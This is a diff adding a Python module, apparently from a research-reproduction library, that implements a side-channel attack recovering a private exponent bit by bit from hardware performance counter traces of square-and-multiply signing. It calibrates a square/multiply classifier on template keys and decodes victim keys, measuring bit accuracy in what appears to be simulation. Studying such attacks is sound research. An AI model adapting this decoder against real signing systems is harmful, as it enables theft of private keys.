@@ -1,0 +1,173 @@
+"""Simple-power-analysis-style key extraction over HPC traces.
+
+The finest-grained attack in this library (paper §X future work):
+recover a private exponent bit by bit from one signature's HPC trace.
+Square-and-multiply leaks twice — a set bit *lengthens* the schedule by
+one operation, and the multiplication's instruction mix differs subtly
+from the squaring's — so the attacker classifies operation windows and
+decodes the S/M sequence: S followed by M is a 1, S followed by another
+S is a 0.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+import numpy as np
+
+from repro.attacks.collector import TraceCollector
+from repro.utils.rng import ensure_rng
+
+
+@dataclass
+class KeyRecoveryResult:
+    """Outcome of attacking one set of signatures."""
+
+    bit_accuracy: float
+    full_key_rate: float
+    keys_attacked: int
+
+
+class KeyRecoveryAttack:
+    """Template-calibrated square/multiply classifier and bit decoder.
+
+    Parameters
+    ----------
+    op_slices:
+        Sampling slices per modular operation (op_seconds / slice_s).
+    activity_channel / ratio_channel:
+        Trace rows used for activity gating (RETIRED_UOPS) and the
+        square-vs-multiply discriminator (LS_DISPATCH / RETIRED_UOPS).
+    """
+
+    def __init__(self, op_slices: int, activity_channel: int = 0,
+                 ratio_channel: int = 1) -> None:
+        if op_slices < 1:
+            raise ValueError(f"op_slices must be >= 1, got {op_slices}")
+        self.op_slices = op_slices
+        self.activity_channel = activity_channel
+        self.ratio_channel = ratio_channel
+        self._threshold: float | None = None
+        self._activity_floor: float | None = None
+
+    # -- calibration ----------------------------------------------------
+
+    def calibrate(self, traces: np.ndarray, keys: "list[tuple]") -> None:
+        """Fit the S/M ratio threshold from template traces.
+
+        The attacker runs known keys on the template VM; operation
+        windows are labelled from the key schedule and the per-class
+        mean load/uop ratios fix the decision threshold.
+        """
+        square_ratios = []
+        multiply_ratios = []
+        for trace, key in zip(traces, keys):
+            windows = self._operation_windows(trace)
+            schedule = self._schedule(key)
+            for ratio, op in zip(windows, schedule):
+                (square_ratios if op == "S" else multiply_ratios).append(
+                    ratio)
+        if not square_ratios and not multiply_ratios:
+            raise ValueError("calibration produced no operation windows; "
+                             "are the traces long enough?")
+        if not square_ratios or not multiply_ratios:
+            # Heavy obfuscation can blur the schedule so badly that the
+            # template windows all land in one class; the attacker falls
+            # back to an uninformed threshold (attack ~= coin flips).
+            everything = square_ratios + multiply_ratios
+            self._threshold = float(np.median(everything))
+            return
+        self._threshold = (float(np.median(square_ratios))
+                           + float(np.median(multiply_ratios))) / 2.0
+
+    @staticmethod
+    def _schedule(key: tuple) -> str:
+        """The S/M operation string implied by a key."""
+        ops = []
+        for bit in key:
+            ops.append("S")
+            if bit:
+                ops.append("M")
+        return "".join(ops)
+
+    # -- decoding ---------------------------------------------------------
+
+    def _operation_windows(self, trace: np.ndarray) -> np.ndarray:
+        """Per-operation load/uop ratios over the active prefix."""
+        activity = trace[self.activity_channel]
+        if self._activity_floor is None:
+            floor = 0.1 * float(np.percentile(activity, 90))
+        else:
+            floor = self._activity_floor
+        active = activity > floor
+        # The signature is a burst starting at t=0; take everything up
+        # to the last active slice (noise injection can blank or light
+        # individual slices, so prefix-contiguity is not assumed).
+        end = (int(np.flatnonzero(active).max()) + 1 if active.any()
+               else 0)
+        usable = (end // self.op_slices) * self.op_slices
+        if usable == 0:
+            return np.empty(0)
+        loads = trace[self.ratio_channel, :usable]
+        uops = activity[:usable]
+        ratio = loads / np.maximum(uops, 1.0)
+        return ratio.reshape(-1, self.op_slices).mean(axis=1)
+
+    def recover_bits(self, trace: np.ndarray,
+                     num_bits: int) -> "list[int]":
+        """Decode ``num_bits`` exponent bits from one signature trace."""
+        if self._threshold is None:
+            raise RuntimeError("attack not calibrated; call calibrate()")
+        windows = self._operation_windows(trace)
+        classes = ["M" if ratio > self._threshold else "S"
+                   for ratio in windows]
+        bits: list[int] = []
+        position = 0
+        while position < len(classes) and len(bits) < num_bits:
+            # Every bit starts with a squaring; a following multiply
+            # marks a set bit.
+            if position + 1 < len(classes) and classes[position + 1] == "M":
+                bits.append(1)
+                position += 2
+            else:
+                bits.append(0)
+                position += 1
+        bits.extend([0] * (num_bits - len(bits)))
+        return bits
+
+    # -- end-to-end -------------------------------------------------------
+
+    def run(self, collector: TraceCollector, keys: "list[tuple]",
+            calibration_runs: int = 2,
+            rng: "int | np.random.Generator | None" = None
+            ) -> KeyRecoveryResult:
+        """Calibrate on half the keys, attack the other half."""
+        gen = ensure_rng(rng)
+        half = max(1, len(keys) // 2)
+        template_keys = keys[:half]
+        victim_keys = keys[half:]
+        if not victim_keys:
+            raise ValueError("need at least two keys (template + victim)")
+        template_traces = []
+        template_labels = []
+        for key in template_keys:
+            for _ in range(calibration_runs):
+                trace, _ = collector.collect_one(key, rng=gen)
+                template_traces.append(trace)
+                template_labels.append(key)
+        self.calibrate(np.stack(template_traces), template_labels)
+
+        bit_hits = 0
+        bit_total = 0
+        exact = 0
+        for key in victim_keys:
+            trace, _ = collector.collect_one(key, rng=gen)
+            recovered = self.recover_bits(trace, len(key))
+            matches = sum(int(a == b) for a, b in zip(recovered, key))
+            bit_hits += matches
+            bit_total += len(key)
+            exact += int(matches == len(key))
+        return KeyRecoveryResult(
+            bit_accuracy=bit_hits / bit_total if bit_total else 0.0,
+            full_key_rate=exact / len(victim_keys),
+            keys_attacked=len(victim_keys))
